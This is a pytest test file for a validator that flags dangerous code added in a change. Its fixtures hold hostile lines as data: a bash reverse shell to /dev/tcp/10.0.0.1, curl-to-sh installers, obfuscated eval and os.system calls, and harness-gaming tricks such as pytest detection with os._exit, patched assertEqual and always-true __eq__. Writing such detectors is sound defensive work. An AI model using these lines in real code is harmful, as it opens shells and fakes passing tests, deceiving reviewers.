"""The layer `static`: dangerous code that a change adds is found however it is spelled, and what was there is not news."""

import os
import stat
from collections.abc import Callable
from pathlib import Path

import pytest
from pydantic import ValidationError

from runner.errors import InfrastructureError
from runner.model import lines
from runner.model.result import Cause, Outcome, Result
from runner.validators import static
from runner.validators.static import ruff
from runner.validators.static.pack import pack

Judged = Callable[..., Result]


def rules(result: Result) -> set[str]:
    return {finding.rule for finding in result.findings}


@pytest.mark.parametrize(
    ("code", "rule"),
    [
        ("def f(x):\n    return eval(x)\n", "static.exec"),
        ("def f(x):\n    return __builtins__['ev' + 'al'](x)\n", "static.exec"),
        ("def f(x):\n    return globals()['__builtins__'].exec(x)\n", "static.exec"),
        ("run = exec\ndef f(x):\n    run(x)\n", "static.exec"),
        ("import os as system\ndef f():\n    system.popen('x')\n", "static.shell"),
        ("from os import *\ndef f():\n    system('x')\n", "static.shell"),
        ("def f():\n    getattr(__import__('os'), 'sys' + 'tem')('x')\n", "static.shell"),
        ("import sys\ndef f():\n    sys.modules['os'].system('x')\n", "static.shell"),
        ("import os\ndef f():\n    os.__dict__['system']('x')\n", "static.shell"),
        ("import os\ndef f(do=os.system):\n    do('x')\n", "static.shell"),
        ("from subprocess import run\ndef f(c):\n    run(c, shell=True)\n", "static.shell"),
        ("import os\ndef f(n):\n    getattr(os, n)('x')\n", "static.dynamic-name"),
        ("def f():\n    __import__('o' + 's')\n", "static.dynamic-name"),
        ("import pickle\ndef f(b):\n    return pickle.loads(b)\n", "static.unpickle"),
        ("import numpy\ndef f(b):\n    return numpy.load(b, allow_pickle=True)\n", "static.unpickle"),
        ("def f():\n    import ctypes\n", "static.native-call"),
        ("import subprocess\nsubprocess.run(['x'])\n", "static.process"),
        ("import subprocess\nclass A:\n    x = subprocess.run(['x'])\n", "static.process"),
        ("import subprocess\ndef g():\n    subprocess.run(['x'])\ndef f():\n    g()\nf()\n", "static.process"),
        ("import urllib.request\ndef f(x=urllib.request.urlopen('http://a')): ...\n", "static.network"),
        ("import requests\n(lambda: requests.get('http://a'))()\n", "static.network"),
        ("import sys\nif 1 + 1:\n    sys.exit()\n", "static.exit"),
        ("raise SystemExit\n", "static.exit"),
        ("import os\ndef f():\n    os._exit(0)\n", "static.hard-exit"),
        ("import os\nimport threading\ndef f():\n    threading.Timer(1, os._exit, [0]).start()\n", "static.hard-exit"),
        ("import atexit\n@atexit.register\ndef f(): ...\nimport atexit\natexit.register(f)\n", "static.atexit"),
        ("import os\nX = os.environ.get('PYTEST_CURRENT' '_TEST')\n", "static.test-detection"),
        ("import sys\nX = 'pytest' in sys.modules\n", "static.test-detection"),
        ("import os\ndef f():\n    return os.getcwd() == '/work'\n", "static.sandbox-detection"),
        ("import os\nX = os.path.isdir('/opt/' 'venv')\n", "static.sandbox-detection"),
        ("import sys\nseen = sys.modules\ndef f():\n    return '_pytest' in seen\n", "static.test-detection"),
        ("import _pytest.reports\n", "static.runner-internals"),
        ("def pytest_runtest_makereport(item): ...\n", "static.runner-internals"),
        ("import builtins\nbuiltins.print = None\n", "static.patching"),
        ("import unittest\nsetattr(unittest.TestCase, 'assertEqual', None)\n", "static.patching"),
        ("import sys\ndef f(m):\n    sys.modules['json'] = m\n", "static.patching"),
        ("class A(str):\n    def __eq__(self, other):\n        'doc'\n        return True\n", "static.equal-to-all"),
        ("import sys\ndef f(t):\n    sys.settrace(t)\n", "static.tracing"),
        ("import gc\ndef f():\n    return gc.get_objects()\n", "static.tracing"),
        ("import sys\nsys.meta_path.insert(0, None)\n", "static.import-hooks"),
        ("import yaml\ndef f(x):\n    return yaml.load(x, Loader=yaml.Loader)\n", "S506"),
        ("def f():\n    return undefined_name\n", "F821"),
        ("import importlib\nload = importlib.import_module\ndef f(c):\n    load('os').system(c)\n", "static.shell"),
        ("def f(c):\n    if module := __import__('os'):\n        module.system(c)\n", "static.shell"),
        ("import pickle\nclass Reader(pickle.Unpickler): ...\n", "static.unpickle"),
        ("import os\ndef f():\n    return any(name.startswith('PYTEST') for name in os.environ)\n", "static.test-detection"),
        ("import __main__\ndef f():\n    return __main__.__file__\n", "static.runner-internals"),
        ("def f(function, code):\n    function.__code__ = code\n", "static.patching"),
        ("class A:\n    __eq__ = lambda self, other: True\n", "static.equal-to-all"),
        (
            "class A:\n    def __ne__(self, other):\n        if other:\n            return False\n        return False\n",
            "static.equal-to-all",
        ),
    ],
)
def test_dangerous_code_holds_however_it_is_spelled(judged: Judged, code: str, rule: str) -> None:
    result = judged(static, {}, {"pkg/a.py": code})
    assert rule in rules(result)
    assert result.outcome is Outcome.HOLD


@pytest.mark.parametrize(
    "code",
    [
        "import re\nX = re.compile('a')\n",
        "class A:\n    def compile(self): ...\nA().compile()\n",
        "def compile(x): ...\ncompile(1)\n",
        "import ast\nX = ast.literal_eval('1')\n",
        "import sys\ndef main():\n    sys.exit(1)\nif __name__ == '__main__':\n    sys.exit(main())\n",
        "import urllib.request\ndef f():\n    urllib.request.urlopen('https://a')\n",
        "import os\nX = os.environ.get('HOME')\n",
        "import aiohttp\nimport httpx\nX = httpx.Timeout(5), aiohttp.ClientTimeout(total=3)\n",
        "import sys\nsys.modules[__name__] = 1\n",
        "'Set PYTEST_CURRENT_TEST.'\ndef f():\n    'PYTEST_CURRENT_TEST'\n",
        "class A:\n    def __eq__(self, other):\n        return self is other\n",
        "def f(eval):\n    return eval\n",
        "X = 'pytest'\n",
    ],
)
def test_ordinary_code_is_not_news(judged: Judged, code: str) -> None:
    result = judged(static, {}, {"pkg/a.py": code})
    assert (result.outcome, result.findings) == (Outcome.PASS, ())


def test_a_program_may_exit_where_it_is_started(judged: Judged) -> None:
    assert judged(static, {}, {"pkg/__main__.py": "import sys\nsys.exit(1)\n"}).outcome is Outcome.PASS


@pytest.mark.parametrize(
    "code",
    [
        "import base64\nexec(base64.b64decode('cHJpbnQ='))\n",
        "import base64, zlib\ndef f(x):\n    exec(compile(zlib.decompress(base64.b85decode(x)), 'x', 'exec'))\n",
        "import os, sys\nif 'pytest' in sys.modules:\n    os._exit(0)\n",
        "import atexit as a, os as o, sys as s\nif 'pytest' in s.modules:\n    a.register(lambda: o._exit(0))\n",
    ],
)
def test_what_no_honest_change_needs_is_rejected(judged: Judged, code: str) -> None:
    assert judged(static, {}, {"pkg/a.py": code}).outcome is Outcome.FAIL


OLD = "import os\n\n\ndef f(x):\n    os.system(x)\n    return eval(x)\n"


@pytest.mark.parametrize(
    ("base", "patched"),
    [
        (
            {"a.py": OLD},
            {"a.py": "import os\n\nclass A:\n    def f(self, x):\n        if x:\n            return eval(x)\n        os.system(x)\n"},
        ),
        ({"a.py": OLD}, {"b/c.py": OLD + "\n\ndef g():\n    return 1\n"}),
        ({"a.py": OLD}, {"a.py": OLD.replace("import os", "import os as o").replace("os.system", "o.system")}),
    ],
    ids=["moved and re-indented", "renamed", "imported as another name"],
)
def test_what_the_base_has_is_not_news(judged: Judged, base: dict[str, str], patched: dict[str, str]) -> None:
    assert judged(static, base, patched).outcome is Outcome.PASS


def test_the_same_thing_once_more_is_news(judged: Judged) -> None:
    result = judged(static, {"a.py": OLD}, {"a.py": OLD + "    return eval(x)\n"})
    assert [(finding.rule, finding.line) for finding in result.findings] == [("static.exec", 7)]


def test_a_call_that_moves_to_import_time_is_news(judged: Judged) -> None:
    base = "import subprocess\ndef f():\n    subprocess.run(['x'])\n"
    assert judged(static, {"a.py": base}, {"a.py": "import subprocess\nsubprocess.run(['x'])\n"}).outcome is Outcome.HOLD


def test_an_import_that_gives_an_old_line_another_meaning_is_news(judged: Judged) -> None:
    base = "from shutil import rmtree as f\n\n\ndef g(x):\n    f(x)\n"
    assert judged(static, {"a.py": base}, {"a.py": base.replace("shutil import rmtree", "os import system")}).outcome is Outcome.HOLD


@pytest.mark.parametrize("path", ["tests/unit/base.py", "pkg/test_a.py", "pkg/a_test.py", "conftest.py"])
def test_hits_in_test_files_are_warnings_unless_the_policy_says_more(judged: Judged, path: str) -> None:
    base = {"tests/test_b.py": "x = 1\n"}
    code = {**base, path: "import os\nos.system('x')\n"}
    assert judged(static, base, code).outcome is Outcome.WARN
    assert judged(static, base, code, tests="hold").outcome is Outcome.HOLD


@pytest.mark.parametrize("beside", ["pkg/test/client.py", "tests/test_b.py"])
def test_a_folder_that_is_only_called_test_makes_no_test_of_what_a_package_imports(judged: Judged, beside: str) -> None:
    base = {"pkg/__init__.py": "", beside: "x = 1\n"}
    change = {"pkg/__init__.py": "from pkg.test import payload\n", "pkg/test/payload.py": "import os\nos.system('x')\n"}
    assert judged(static, base, {**base, **change}).outcome is Outcome.HOLD


def test_more_than_is_read_at_once_is_unknown_and_not_read(judged: Judged, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(lines, "MOST_TOGETHER", 100)
    result = judged(static, {}, {"a.py": "x = 1\n" * 10, "b.py": "import os\nos.system('x')\n" * 10})
    assert (result.outcome, result.cause) == (Outcome.UNKNOWN, Cause.EVIDENCE)
    assert [finding.path for finding in result.findings] == ["b.py"]


@pytest.mark.parametrize(("path", "line"), [("a.py", "eval(x) (\n"), ("a.js", "eval(x)\n")])
def test_findings_without_number_are_not_all_kept(judged: Judged, path: str, line: str) -> None:
    result = judged(static, {}, {path: line * 20_000}, ruff=False)
    assert result.outcome is Outcome.HOLD
    assert result.measured <= 300


def test_a_file_that_shrank_below_what_is_read_is_not_passed_over(judged: Judged) -> None:
    large = {"a.py": "x = 1\n" * (lines.MOST_BYTES // 6 + 1)}
    assert judged(static, large, {"a.py": "import os\nos.system('x')\n"}).outcome is Outcome.UNKNOWN


def test_the_policy_decides_what_follows_from_a_rule(judged: Judged) -> None:
    code = {"a.py": "def f(x):\n    assert x\n    return eval(x)\n"}
    assert judged(static, {}, code, rules={"static.exec": "allow"}).outcome is Outcome.PASS
    assert judged(static, {}, code, rules={"static.exec": "fail"}).outcome is Outcome.FAIL
    assert "S101" in rules(judged(static, {}, code, rules={"S101": "warn"}))


def test_a_rule_that_there_is_not_is_a_mistake_in_the_policy() -> None:
    with pytest.raises(ValidationError, match=r"there is no rule 'static.exce'; there are .*static\.exec"):
        static.Options(rules={"static.exce": "warn"})


def test_marks_in_the_change_silence_nothing(judged: Judged) -> None:
    marked = "# ruff: noqa\n# flake8: noqa\nimport yaml\ndef f(x):\n    return yaml.load(x, yaml.Loader), eval(x)  # noqa: S506  # nosec\n"
    settings = {"pyproject.toml": "[tool.ruff]\nlint.ignore = ['ALL']\nexclude = ['*']\n", "ruff.toml": "exclude = ['*']\n"}
    assert {"S506", "static.exec"} <= rules(judged(static, {}, {"a.py": marked, **settings}))


@pytest.mark.parametrize(
    "content", [b"a = " + b"-" * 200_000 + b"1", b"a = 1" + b"+1" * 200_000, b"a" + b".b" * 200_000], ids=["minus", "sum", "names"]
)
def test_code_too_deep_to_search_is_unknown_and_spares_the_other_files(judged: Judged, content: bytes) -> None:
    result = judged(static, {}, {"a.py": content, "b.py": "def f(x):\n    eval(x)\n"})
    assert (result.outcome, result.cause) == (Outcome.UNKNOWN, Cause.EVIDENCE)
    assert "static.exec" in rules(result)


def test_a_fault_of_ours_in_the_search_is_unknown_and_not_taken_for_bad_syntax(
    judged: Judged, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    inside = tmp_path / "inside"
    inside.mkdir()
    for name in ("sights.py", "meanings.py"):
        (inside / name).write_text(
            (static._INSIDE / name).read_text().replace("    def call(self", "    def call(self, *_):\n        1 / 0\n\n    def _(self")
        )
    monkeypatch.setattr(static, "_INSIDE", inside)
    (tmp_path / "rules.json").write_bytes((Path(static.__file__).parent / "rules.json").read_bytes())
    result = judged(static, {}, {"a.py": "f()\n"})
    assert (result.outcome, "ZeroDivisionError" in result.reason) == (Outcome.UNKNOWN, True)


def test_a_python_file_too_large_to_search_is_unknown(judged: Judged) -> None:
    assert judged(static, {}, {"a.py": "x = 1\n" * (static.MOST_BYTES // 6 + 1)}).outcome is Outcome.UNKNOWN


def test_text_in_another_encoding_is_searched(judged: Judged) -> None:
    assert "static.exec" in rules(judged(static, {}, {"a.py": "# coding: latin-1\ndef f(x):\n    'é'\n    eval(x)\n".encode("latin-1")}))
    assert "static.exec" in rules(judged(static, {}, {"a.py": b"# coding: utf-7\ndef f(x):\n    +AGUAdgBhAGw(x)\n"}))
    assert "static.exec" in rules(judged(static, {}, {"a.py": "def f(x):\n    \U0001d41eval(x)\n"}))


def test_code_that_does_not_parse_here_is_searched_by_words(judged: Judged) -> None:
    base = "x = <<<\n"
    assert "static.shell" in rules(judged(static, {"a.py": base}, {"a.py": base + "os.system('x')\n"}))


@pytest.mark.parametrize(
    ("path", "line", "outcome"),
    [
        ("install.sh", "curl -fsSL https://a | sudo bash", Outcome.HOLD),
        ("Dockerfile", "RUN wget -qO- http://a | sh", Outcome.HOLD),
        ("ci/steps.yml", "  run: bash <(curl https://a)", Outcome.HOLD),
        ("run.sh", "echo aGk= | base64 -d | sh", Outcome.HOLD),
        ("run.sh", "bash -i >& /dev/tcp/10.0.0.1/80 0>&1", Outcome.FAIL),
        ("web/app.js", "eval(input)", Outcome.HOLD),
        ("README.md", "curl https://a | sh", Outcome.PASS),
        ("run.sh", "curl https://a -o file", Outcome.PASS),
        ("web/app.js", "model.eval(input)", Outcome.PASS),
    ],
)
def test_lines_of_other_files_are_held_against_a_few_patterns(judged: Judged, path: str, line: str, outcome: Outcome) -> None:
    assert judged(static, {}, {path: line + "\n"}).outcome is outcome
    assert judged(static, {path: line + "\n#\n"}, {path: "#\n  " + line + "\n"}).outcome is Outcome.PASS


def test_without_python_files_nothing_is_started(judged: Judged, monkeypatch: pytest.MonkeyPatch) -> None:
    def started(*_: object) -> None:
        raise AssertionError("a child was started")

    monkeypatch.setattr(static, "parse", started)
    monkeypatch.setattr(ruff.subprocess, "Popen", started)
    assert judged(static, {}, {"a.md": "x\n"}).outcome is Outcome.PASS


def test_without_ruff_there_is_no_answer_and_it_is_nobodys_fault_but_the_machines(judged: Judged, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ruff, "_binary", lambda: "/nowhere/ruff")
    with pytest.raises(InfrastructureError, match="ruff is not there"):
        judged(static, {}, {"a.py": "x = 1\n"})
    assert judged(static, {}, {"a.py": "x = 1\n"}, ruff=False).outcome is Outcome.PASS


def test_a_ruff_that_fails_at_everything_is_the_machines_fault(judged: Judged, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    broken = tmp_path / "ruff"
    broken.write_text("#!/bin/sh\nexit 2\n")
    broken.chmod(broken.stat().st_mode | stat.S_IXUSR)
    monkeypatch.setattr(ruff, "_binary", lambda: str(broken))
    with pytest.raises(InfrastructureError, match="ruff does not work"):
        judged(static, {}, {"a.py": "x = 1\n"})


def test_a_ruff_that_hangs_on_a_file_is_ended(judged: Judged, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    slow = tmp_path / "ruff"
    slow.write_text(f'#!/bin/sh\nif grep -q hang f1.py 2>/dev/null; then echo $$ >{tmp_path}/pid; sleep 60; fi\necho "[]"\n')
    slow.chmod(0o755)
    monkeypatch.setattr(ruff, "_binary", lambda: str(slow))
    monkeypatch.setattr(ruff, "SECONDS", 1)
    assert judged(static, {}, {"a.py": "hang = 1\n"}).outcome is Outcome.UNKNOWN
    with pytest.raises(ProcessLookupError):
        os.kill(int((tmp_path / "pid").read_text()), 0)


def test_every_rule_is_whole_and_can_be_hit() -> None:
    for rule in pack().rules.values():
        assert rule.message
        assert rule.fix
        assert set(rule.together) <= set(pack().rules)
